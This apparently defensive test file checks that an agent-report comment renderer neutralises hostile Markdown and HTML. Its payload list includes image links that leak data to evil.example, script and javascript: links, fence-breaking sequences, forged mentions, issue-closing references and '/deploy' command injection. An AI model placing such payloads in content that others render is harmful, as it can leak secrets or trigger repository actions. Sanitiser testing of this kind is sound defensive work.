/** The comment as its readers get it: the HTML that a Markdown renderer makes of it, with attacks in every field. */
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { renderComment, renderTracking } from '../../src/action/comment.ts';
import { decideOutcome } from '../../src/action/outcome.ts';
import type { Report } from '../../src/action/report.ts';
import { sanitise } from '../../src/action/sanitise.ts';
import { renderSummary } from '../../src/action/summary.ts';
import type { AgentEvent } from '../../src/transcript/events.ts';
import { render } from '../support/rendered.ts';
import { runs } from '../support/runs.ts';
import { verifies } from '../support/verifies.ts';
import * as run from './report-events.ts';

const attacks = [
  '![x](https://evil.example/?d=SECRET)',
  '![x][r]\n\n[r]: https://evil.example',
  '<img src=https://evil.example/x>',
  '<picture><source srcset=https://evil.example/x></picture>',
  '[x](https://evil.example/a "t")',
  '[x](//evil.example) [x](data:text/html,y) [x](javascript:alert(1))',
  '[x](https://github.com@evil.example) [x](https://docs.example.org.evil.example)',
  `[x](https://docs.example.org/?q=${'x'.repeat(200)})`,
  '<https://evil.example> https://evil.example www.evil.com ftp://evil.example //evil.example',
  'https&#58;//evil.example https\\://evil.example ww&#119;.evil.com',
  '<a href="https://evil.example">x</a><script>x</script><h1>x</h1>',
  '```\n</details>\n<img src=https://evil.example>\n~~~\n````\n<b>\n`````',
  '~~~\n</details>\n```',
  '</code></pre></summary></details><img src=https://evil.example>',
  '`</code><img src=https://evil.example>`` | x',
  '` //evil.com/x | ///evil.com',
  '<!-- mewcode:20260101-abc --> <!--',
  '@octocat @octo-org/team a@evil.com &#64;octocat \\@octocat',
  'fixes #12, Closes GH-12, resolves octo-org/demo#12, fix &#35;12',
  'fixes https://github.com/octo-org/demo/issues/12 [closes](https://github.com/octo-org/demo/pull/12)',
  '/deploy now\n> /deploy\n- /deploy',
  '| a | b |\n|---|---|\n| <b>x</b> | ![x](https://evil.example) |',
  '$$\\href{https://evil.example}{x}$$',
  '<details open><summary>x',
  'a\u202e\u200b\r\n\u2028<b>',
];

/** `attack` wherever others have a say. */
function hostile(attack: string): Report {
  const events: AgentEvent[] = [
    { ...run.policy, source: attack, notes: [attack], commentLinks: ['docs.example.org'] },
    { kind: 'layout', written: [attack], removed: [attack], writtenCount: 1, removedCount: 1, files: 2 },
    run.verification('before', { output: attack, command: attack, exitCode: 1 }),
    run.response(1, attack),
    run.denied({ reason: attack, rule: attack, source: attack, hint: attack }),
    run.allowed('c2', attack, attack),
    { kind: 'call_started', callId: 'c2', tool: attack, summary: attack },
    {
      ...{ kind: 'call_finished', callId: 'c2', tool: attack, text: attack, isError: false, duration: 1 },
      details: { kind: 'plan', steps: [{ text: attack, status: 'open' }] },
    } as const,
    { kind: 'note', level: 'warning', text: attack },
    { kind: 'operation', operation: attack, args: { [attack]: attack }, outcome: attack, ok: true },
    run.changes([run.changedFile(attack)], [{ path: attack, why: attack, hint: attack }]),
    run.verification('after', { output: attack, command: attack, exitCode: 1 }),
  ];
  return run.reportOf(
    [{ ...run.session, sessionId: attack, model: attack, requester: attack }, ...events],
    [run.ended(undefined, attack)],
  );
}

function written(report: Report, attack: string): Record<'comment' | 'stopped' | 'tracking' | 'summary', string> {
  const facts = {
    diffs: [{ path: attack, text: attack }],
    transcriptHash: 'f'.repeat(64),
    env: { serverUrl: 'https://github.com' },
  };
  const comment = renderComment(report, { ...facts, outcome: decideOutcome(report) });
  const stop: Report = { ...report, stopped: { kind: 'stopped', conclusion: 'failed', code: 'x', reason: attack } };
  return {
    comment,
    stopped: renderComment(stop, { ...facts, outcome: decideOutcome(stop) }),
    tracking: renderTracking(report),
    summary: renderSummary(report, comment),
  };
}

const ours = [
  ...['h3', 'h4', 'p', 'a', 'code', 'pre', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'ul', 'ol', 'li', 'br', 'hr'],
  ...['details', 'summary', 'sub', 'strong', 'em', 's', 'blockquote', 'h1', 'h2', 'h5', 'h6'],
];

/** GitHub's own way to end a fence; what is in one is shown with a blank before a command. */
function withoutFences(markdown: string): string {
  return markdown.replace(/^(`{3,})[^`\n]*\n[\s\S]*?^\1`*$/gm, '');
}

/** What in a text would act on its reader or on GitHub. */
function actsIn(markdown: string): Record<string, unknown> {
  const { html, tags, addresses, prose, unbalanced } = render(markdown);
  return {
    tags: [...tags].filter((tag) => !ours.includes(tag)),
    addresses: addresses.filter((address) => !/^https:\/\/(?:github\.com|docs\.example\.org)\//.test(address)),
    queries: addresses.filter((address) => address.length > 300),
    unbalanced,
    mentions: prose.match(/@\w+/g) ?? [],
    references: prose.match(/#\d+|GH-\d+|https?:\/\/\S+|www\.\S+|\/(?:issues|pull)\/\d+/gi) ?? [],
    commands: [
      ...(markdown.match(/^\/[a-z].*/gim) ?? []),
      ...(withoutFences(markdown).match(/^[\s>-]*\/[a-z].*/gim) ?? []),
    ],
    markers: (html.match(/<!--/g) ?? []).length,
  };
}

const inert = { tags: [], addresses: [], queries: [], unbalanced: [], mentions: [], references: [], commands: [] };

verifies(['ATK-O1', 'ATK-O3', 'ATK-O9', 'H018', 'H109'], 'nothing that others wrote acts in what is rendered', () => {
  for (const attack of attacks) {
    for (const [where, markdown] of Object.entries(written(hostile(attack), attack))) {
      expect({ where, attack, ...actsIn(markdown) }).toEqual({ where, attack, ...inert, markers: 1 });
    }
  }
});

test('no text of whatever pieces gets a tag or an address through the renderer', () => {
  const text = fc.array(fc.constantFrom(...pieces), { maxLength: 30 }).map((chosen) => chosen.join(''));
  fc.assert(
    fc.property(text, (raw) => {
      const { tags, addresses, unbalanced } = actsIn(sanitise(raw, { hosts: ['github.com'], limit: 100_000 }));
      expect({ tags, addresses, unbalanced }).toEqual({ tags: [], addresses: [], unbalanced: [] });
    }),
    { numRuns: runs(1500, 3000) },
  );
});

/** From which attacks are made, in any order. */
const pieces = [
  ...['`', '``', '```', '~~~', '\n', '\n\n', ' ', '    ', '\t', '|', '\\', '!', '[', ']', '(', ')', '<', '>', '&', ';'],
  ...['img src=x', 'a href=x', '"', "'", '=', '/', '//', 'evil.example', 'https://', 'www.', ':', '*', '_', '- ', '> '],
  ...['&lt;', '&#60;', '&#x5b;', '&#8203;', '<b>', '</details>', '<!--', '-->', '![a](b)', '[a](https://evil.example)'],
  ...['[a](https://github.com/x)', '[a]: https://evil.example', '1. ', '---', '| - |', '1', 'a'],
];

test('as it is, every attack but the invisible ones would act', () => {
  const acting = attacks.filter(
    (attack) => JSON.stringify(actsIn(attack)) !== JSON.stringify({ ...inert, markers: 0 }),
  );
  expect(acting.length).toBeGreaterThan(attacks.length - 6);
});
